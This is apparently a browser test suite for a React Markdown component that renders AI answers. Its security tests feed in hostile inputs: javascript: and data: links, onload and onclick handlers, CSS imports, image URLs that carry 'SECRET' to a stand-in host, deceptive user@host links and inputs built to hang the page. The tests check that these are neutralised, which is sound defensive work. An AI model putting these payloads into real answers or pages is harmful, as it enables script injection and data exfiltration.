import { createRoot } from 'react-dom/client';
import { beforeEach, describe, expect, test, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-react';
import '../../../src/components/styles.css';
import { WordsProvider } from '../../../src/index.js';
import { arabicWords } from '../../../src/components/words/arabic/index.js';
import { germanWords } from '../../../src/components/words/german/index.js';
import { Markdown } from '../../../src/markdown.js';
import { mermaidDiagrams } from '../../../src/mermaid/index.js';
import { requestsNoted, requestsTo, unsafeParts } from '../../helpers/answer-safety.js';
import { measureBusy } from '../../helpers/measure-busy.js';

declare const __SHARED_FOLDER__: string;

const HOST = 'canary.invalid';
const plugins = [mermaidDiagrams()];

async function show(text: string) {
  const screen = await render(<Markdown text={text} plugins={plugins} />);
  return { screen, root: screen.container };
}

/** A guard against hangs. Blocks are measured by the bench. */
const HANG_MS = 5000;

describe('an answer in markdown', () => {
  test('has headings, lists, tables, quotes and code', async () => {
    const { root } = await show(
      '# Title\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n> quote\n\n```ts\nlet a = 1;\n```\n\n~~gone~~',
    );
    for (const selector of ['h1', 'ul > li', 'table td', 'blockquote', 'pre > code', 'del']) {
      expect(root.querySelectorAll(selector).length).toBeGreaterThan(0);
    }
  });

  test('keeps blocks on the page while it grows, and draws only the last one anew', async () => {
    const screen = await render(<Markdown text={'First.\n\nSec'} isStreaming />);
    const first = screen.container.querySelector('p');
    await screen.rerender(<Markdown text={'First.\n\nSecond **bold**.\n\nThird.'} isStreaming />);
    expect(screen.container.querySelector('p')).toBe(first);
    expect(screen.container.textContent).toBe('First.\nSecond bold.\nThird.');
  });

  test('finds link targets that stand at its end', async () => {
    const { root } = await show('See [the page][1].\n\nMore.\n\n[1]: https://example.com/x');
    expect(root.querySelector('a')?.href).toBe('https://example.com/x');
  });

  test('leaves math as the text it is, if the app wants that', async () => {
    const text = String.raw`Euler: \(e^{i*\pi*2}\) and $a*b*c$ for $5.`;
    const { container: root } = await render(<Markdown text={text} math={false} />);
    expect(root.textContent).toBe(text);
    expect(root.querySelector('em, math')).toBeNull();
  });

  test('copies code without its fences', async () => {
    const { screen } = await show('```ts\nconst a = 1;\nconst b = 2;\n```');
    await userEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    await expect.poll(() => navigator.clipboard.readText()).toBe('const a = 1;\nconst b = 2;');
  });

  test('turns "Image 2" into a button that opens it, and leaves numbers that do not exist', async () => {
    const onOpen = vi.fn();
    const references = { count: 2, onOpen };
    const screen = await render(
      <Markdown
        text="Image 2 is darker than **image 1**; Image 3 and Image 12 are not there."
        imageReferences={references}
      />,
    );
    await userEvent.click(screen.getByRole('button', { name: 'Image 2' }));
    expect(onOpen).toHaveBeenCalledWith(2);
    expect(screen.container.querySelectorAll('button').length).toBe(2);
    expect(screen.container.textContent).toBe(
      'Image 2 is darker than image 1; Image 3 and Image 12 are not there.',
    );
  });

  test.each([
    {
      language: 'German',
      words: germanWords,
      text: 'Bild 2 ist dunkler als Image 1.',
      numbers: [2, 1],
    },
    {
      language: 'Arabic',
      words: arabicWords,
      text: 'الصورة 2 و Image 1, picture 2, الصورة ٢.',
      numbers: [2, 1, 2, 2],
    },
    {
      language: 'English',
      words: {},
      text: 'Picture 2 and image\u00a01; 2 pictures, image 2nd.',
      numbers: [2, 1],
    },
  ])(
    'finds the images in the words of a $language page and in English',
    async ({ words, text, numbers }) => {
      const onOpen = vi.fn<(number: number) => void>();
      const screen = await render(
        <WordsProvider words={words}>
          <Markdown text={text} imageReferences={{ count: 2, onOpen }} />
        </WordsProvider>,
      );
      const buttons = screen.getByRole('button').elements();
      for (const button of buttons) (button as HTMLElement).click();
      expect(onOpen.mock.calls.flat()).toEqual(numbers);
      expect(screen.container.textContent).toBe(text);
    },
  );
});

interface CorpusCase {
  id: string;
  markdown: string;
  chunks?: string[];
}

describe.skipIf(__SHARED_FOLDER__ === '')('the corpus of hostile answers', () => {
  test('asks for nothing and holds nothing dangerous, after every piece of every case', async () => {
    const response = await fetch(`/@fs${__SHARED_FOLDER__}/corpus/text/model-answers.json`);
    const { cases } = (await response.json()) as { cases: CorpusCase[] };
    expect(cases.length).toBeGreaterThan(10);
    performance.clearResourceTimings();
    const failures: string[] = [];
    for (const { id, markdown, chunks = [markdown] } of cases) {
      const screen = await render(<Markdown text="" isStreaming plugins={plugins} />);
      let text = '';
      const { busyMs } = await measureBusy(async () => {
        for (const chunk of chunks) {
          text += chunk;
          await screen.rerender(<Markdown text={text} isStreaming plugins={plugins} />);
          await new Promise(requestAnimationFrame);
          failures.push(...unsafeParts(screen.container).map((part) => `${id}: ${part}`));
        }
        await screen.rerender(<Markdown text={text} plugins={plugins} />);
        failures.push(...unsafeParts(screen.container).map((part) => `${id}: ${part}`));
      });
      if (busyMs > HANG_MS) failures.push(`${id}: kept the page busy for ${busyMs} ms`);
      await screen.unmount();
    }
    expect(failures).toEqual([]);
    expect(requestsTo(HOST)).toEqual([]);
  });
});

describe('an answer that means harm', () => {
  beforeEach(() => performance.clearResourceTimings());

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,x)',
    '[x](vbscript:x)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[rel](x) [root](/x) [hash](#x) [host](//canary.invalid/x)',
    '<a href="https://canary.invalid" onclick="alert(1)">x</a>',
    `<img src="https://${HOST}/1"><svg onload=alert(1)>`,
    `<style>@import url(https://${HOST}/s)</style>`,
    `![a](https://${HOST}/i?d=SECRET)`,
    `![a][r]\n\n[r]: https://${HOST}/ref`,
    `[![a](https://${HOST}/i)](https://${HOST}/l)`,
    '![a](data:image/svg+xml;base64,PHN2Zy8+)',
    '[open](image-chat-kit:1)',
    '[^1]\n\n[^1]: note',
  ])('%j is text, and asks for nothing', async (text) => {
    const { root } = await show(text);
    expect(unsafeParts(root)).toEqual([]);
    await requestsNoted();
    expect(requestsTo(HOST)).toEqual([]);
  });

  test('shows the host of an image, and loads it only after a press, without a referrer', async () => {
    const { screen, root } = await show(`![a chart](https://${HOST}/chart.png?d=SECRET)`);
    await expect.element(screen.getByText(`a chart (${HOST})`)).toBeVisible();
    expect(root.querySelector('img')).toBeNull();
    await userEvent.click(screen.getByRole('button', { name: 'Load' }));
    const image = root.querySelector('img');
    expect(image?.src).toBe(`https://${HOST}/chart.png?d=SECRET`);
    expect(image?.referrerPolicy).toBe('no-referrer');
  });

  const loaded = `https://${HOST}/loaded.png`;
  const other = `https://${HOST}/other.png?d=SECRET`;
  test.each([
    [
      'the loaded one becomes code',
      `\`![a](${loaded}) ![b](${other})`,
      `\`![a](${loaded})\` ![b](${other})`,
    ],
    ['its definition grows', `![a][r]\n\n[r]: ${loaded}`, `![a][r]\n\n[r]: ${loaded}.more`],
    [
      'its host grows',
      `![a][r]\n\n[r]: https://${HOST}`,
      `![a][r]\n\n[r]: https://${HOST}.canary.invalid/?d=SECRET`,
    ],
    ['a row shifts', `| ![a](${loaded}) |`, `| ![b](${other}) |\n|---|\n| x |`],
    ['the loaded one becomes a link', `[![a](${loaded})`, `[![b](${other})](https://${HOST}/l)`],
    ['another text takes its place', `![a](${loaded})`, `![b](${other})`],
  ])('a press for one image loads no other one when %s', async (_, before, after) => {
    const screen = await render(<Markdown text={before} />);
    await userEvent.click(screen.getByRole('button', { name: 'Load' }).first());
    await expect.element(screen.getByRole('img')).toBeInTheDocument();
    const address = screen.container.querySelector('img')?.src;
    await screen.rerender(<Markdown text={after} isStreaming />);
    const shown = [...screen.container.querySelectorAll('img')].map(({ src }) => src);
    expect(shown.filter((src) => src !== address)).toEqual([]);
    // What has not arrived whole cannot be agreed to.
    expect(screen.container.querySelector('[data-ick-part=remote-image] button')).toBeNull();
  });

  test('what was loaded stays so while more of the answer comes', async () => {
    const screen = await render(<Markdown text={`![a](${loaded})`} />);
    await userEvent.click(screen.getByRole('button', { name: 'Load' }));
    await screen.rerender(<Markdown text={`![a](${loaded}) and a word`} isStreaming />);
    expect(screen.container.querySelector('img')?.src).toBe(loaded);
  });

  test('a press on Load within a link loads the image and does not follow the link', async () => {
    const { screen, root } = await show(`[![a](${loaded}) more](https://${HOST}/followed)`);
    expect(root.querySelector('a button, button a')).toBeNull();
    expect(root.querySelector('a')?.textContent).toBe(HOST);
    await userEvent.click(screen.getByRole('button', { name: 'Load' }));
    expect(root.querySelector('img')?.src).toBe(loaded);
  });

  test('shows where a link really goes', async () => {
    const { root } = await show(
      `[bank.example](https://bank.example@${HOST}/) and https://example.com/`,
    );
    expect(root.textContent).toBe(`bank.example (${HOST}) and https://example.com/`);
    const link = root.querySelector('a');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
    expect(link?.target).toBe('_blank');
  });

  test.each([
    ['five thousand quotes', '>'.repeat(5000)],
    ['five thousand lists', '- '.repeat(5000)],
    ['twenty thousand brackets', '['.repeat(20_000)],
    ['twenty thousand stars', '*a '.repeat(20_000)],
    ['brackets that almost pair', '[a]('.repeat(5000)],
    ['nested emphasis', `${'*a **b '.repeat(1500)}x${' b** a*'.repeat(1500)}`],
    ['brackets in one paragraph', '['.repeat(11_900)],
    ['closed brackets in one paragraph', '[]'.repeat(5900)],
    ['stars in one paragraph', '*a '.repeat(3900)],
    ['stars and underscores in one paragraph', '*_a_ '.repeat(2300)],
    ['links that almost pair in one paragraph', '[a]('.repeat(2900)],
    ['angle brackets in one paragraph', '<a '.repeat(3900)],
    ['ampersands in one paragraph', '&a;'.repeat(3900)],
    ['addresses in one paragraph', 'https://a.b '.repeat(900)],
    ['dollars in one paragraph', '$a '.repeat(3900)],
    ['backslash brackets in one paragraph', String.raw`\( `.repeat(3900)],
    ['backticks of all lengths', Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join(' ')],
    ['angle brackets', '<'.repeat(20_000)],
    [
      'a table of one row and many cells',
      `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}\n|${'b|'.repeat(3000)}`,
    ],
    ['a megabyte in one paragraph', 'word '.repeat(200_000)],
    ['a hundred paragraphs', `${'Some **bold** words and ~~more~~. '.repeat(8)}\n\n`.repeat(100)],
  ])('%s do not hang the page', async (_name, markers) => {
    // Not rendered by the test library, which looks at every element itself.
    const element = document.body.appendChild(document.createElement('div'));
    const root = createRoot(element);
    const { busyMs } = await measureBusy(async () => {
      root.render(<Markdown text={`${markers}end`} />);
      await expect.poll(() => element.textContent.trimEnd().endsWith('end')).toBe(true);
    });
    root.unmount();
    element.remove();
    expect(busyMs).toBeLessThan(HANG_MS);
  });
});
